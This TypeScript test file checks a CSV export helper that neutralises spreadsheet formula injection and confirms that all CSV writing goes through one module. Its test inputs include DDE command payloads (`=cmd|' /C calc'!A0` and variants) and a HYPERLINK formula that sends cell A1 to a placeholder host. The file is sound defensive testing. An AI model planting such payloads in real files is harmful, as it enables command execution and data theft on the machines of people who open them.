import { parse } from 'csv-parse/sync';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { neutraliseCell, toCsv } from './csv';

describe('CSV cells that a spreadsheet would run as formulas', () => {
  it.each([
    ['=HYPERLINK("http://x/?"&A1,"klick")'],
    ["=cmd|' /C calc'!A0"],
    ['+46 SUM(A1:A9)'],
    ["-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\u0000=1+1'],
    ['  =1+1'],
    ['\n-1'],
    ['\uFF1D1+1'],
  ])('prefixes a single quote to %j and keeps the rest', (text) => {
    expect(neutraliseCell(text)).toBe(`'${text}`);
  });

  it.each([['Krossad ruta'], ['1-2 personer'], ["'=redan skyddad"], ['e-post: a@b.se'], [''], ['2026-10-02 21:30']])('leaves %j as it is', (text) => {
    expect(neutraliseCell(text)).toBe(text);
  });

  it('neutralises every text cell of a file but leaves numbers the product writes', () => {
    const csv = toCsv([['=1+1', -12.5, 'ok', '@a;b']], { header: true, delimiter: ';', columns: ['-a', 'b', 'c', 'd'] });
    expect(parse(csv, { delimiter: ';' })).toEqual([
      ["'-a", 'b', 'c', 'd'],
      ["'=1+1", '-12.5', 'ok', "'@a;b"],
    ]);
  });
});

describe('every CSV the API writes', () => {
  it('is written through toCsv: no other file of the API uses csv-stringify', () => {
    const files = (dir: string): string[] =>
      readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
        e.isDirectory() ? files(join(dir, e.name)) : e.name.endsWith('.ts') && !e.name.endsWith('.spec.ts') ? [join(dir, e.name)] : [],
      );
    const src = join(__dirname, '..');
    const writers = files(src)
      .filter((f) => /csv-stringify/.test(readFileSync(f, 'utf8')))
      .map((f) => f.slice(src.length + 1));
    expect(writers).toEqual(['common/csv.ts']);
  });
});
